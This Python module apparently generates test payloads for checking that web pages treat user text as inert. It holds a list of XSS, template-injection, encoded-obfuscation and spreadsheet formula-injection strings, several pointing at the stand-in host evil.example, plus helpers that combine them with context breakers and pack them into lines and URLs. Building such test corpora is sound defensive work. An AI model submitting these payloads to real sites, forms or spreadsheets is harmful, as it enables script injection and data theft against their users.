"""Texts that would run, load or change something if a page took them for more than text."""

from collections.abc import Sequence
from functools import cache
from itertools import islice, product

NOWHERE = "evil.example"
"""A host that nobody may call."""
SUM = "{{1337*7}}"
"""What a template would make 9359 of."""
COUNT = 300
ELEMENTS = 32
"""How many of ``TEXTS``, from the first, are elements by themselves."""
NEVER_IN_WEB = frozenset(' <>"\\^`{|}\t\0')
BREAKERS = ("", '">', "'>", "</textarea>", "</title></script>", "x' y=\" ")
TEXTS = (
    "<script>alert(%d)</script>",
    "<ScRiPt/x>alert(%d)</sCrIpT >",
    "<script src=//evil.example/%d></script>",
    "<img src=x onerror=alert(%d)>",
    "<IMG SRC=x:x OnErRoR=alert(%d) ",
    "<img src=//evil.example/%d.png>",
    "<svg onload=alert(%d)>",
    "<svg/onload=alert(%d)//",
    "<svg><script>alert(%d)</script></svg>",
    "<svg><a xlink:href=javascript:alert(%d)>x</a></svg>",
    "<body onload=alert(%d)>",
    "<iframe src=javascript:alert(%d)></iframe>",
    "<iframe srcdoc='<script>parent.alert(%d)</script>'>",
    "<a href=javascript:alert(%d)>x</a>",
    "<a href='java\tscript:alert(%d)'>x</a>",
    "<a href='data:text/html,<script>alert(%d)</script>'>x</a>",
    "<form action=javascript:alert(%d)><button>x</button>",
    "<input autofocus onfocus=alert(%d)>",
    "<details open ontoggle=alert(%d)>x</details>",
    "<video src=x onerror=alert(%d)></video>",
    "<object data=javascript:alert(%d)></object>",
    "<embed src=//evil.example/%d>",
    "<link rel=stylesheet href=//evil.example/%d.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/%d'>",
    "<base href=//evil.example/%d/>",
    "<style>@import'//evil.example/%d';</style>",
    "<p style=background:url(//evil.example/%d)>x</p>",
    "<p hx-get=//evil.example/%d hx-trigger=load>x</p>",
    "<p data-hx-post=//evil.example/%d hx-trigger=load>x</p>",
    "<p hx-on:load=alert(%d) hx-on::load=alert(1)>x</p>",
    "<math><mtext><img src=x onerror=alert(%d)></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(%d)>'>",
    "<!--><img src=x onerror=alert(%d)>-->",
    "x onmouseover=alert(%d) y",
    '" autofocus onfocus="alert(%d)',
    "' autofocus onfocus='alert(%d)",
    "` onfocus=`alert(%d)",
    "');alert(%d);//",
    '";alert(%d);//',
    "javascript:alert(%d)",
    "JaVaScRiPt&colon;alert(%d)",
    "data:text/html,<script>alert(%d)</script>",
    SUM + " %d",
    "{%% for x in (1,2) %%}alert(%d){%% endfor %%}",
    "${alert(%d)} #{7*7} <%%= 7*7 %%>",
    "{{config}} {{''.__class__.__mro__[%d]}}",
    "\\u003cscript\\u003ealert(%d)\\x3c/script\\x3e",
    "&lt;script&gt;alert(%d)&lt;/script&gt; &#60;img src=x onerror=alert(1)>",
    "%%3Cscript%%3Ealert(%d)%%3C/script%%3E",
    "\uff1cscript\uff1ealert(%d)\uff1c/script\uff1e",
    "<scr\u200bipt>alert(%d)</scr\u0000ipt>",
    "\u202e<script>alert(%d)</script>\u2066",
    "=1+1 alert %d",
    "=HYPERLINK('http://evil.example/%d','x')",
    "+cmd|'/C calc'!A%d",
    "@SUM(1+%d)",
)


@cache
def payloads() -> Sequence[str]:
    """``COUNT`` of them: each text by itself, and then behind whatever could end what it stands in. Each its number."""
    made = (breaker + text for breaker, text in product(BREAKERS, TEXTS))
    return [text % number for number, text in enumerate(islice(made, COUNT))]


@cache
def lines(longest: int) -> Sequence[str]:
    """All of them that are short enough, in as few lines of this length as they need."""
    packed = [""]
    for payload in sorted(payloads(), key=len, reverse=True):
        if len(payload) > longest:
            continue
        room = next((place for place, line in enumerate(packed) if len(line) + len(payload) < longest), None)
        if room is None:
            packed.append(payload)
        else:
            packed[room] = f"{packed[room]} {payload}".strip()
    return packed


def line(longest: int, turn: int) -> str:
    """Who asks for turn after turn gets all of them."""
    every = lines(longest)
    return every[turn % len(every)]


def some(longest: int, turn: int, count: int) -> list[str]:
    """So many lines, each once."""
    return [line(longest, turn * count + place) for place in range(min(count, len(lines(longest))))]


@cache
def web_addresses() -> Sequence[str]:
    """Addresses that a form takes, with those texts in them that an address can hold."""
    return [f"https://www.example.org/?x={text}" for text in payloads() if not NEVER_IN_WEB & set(text)]
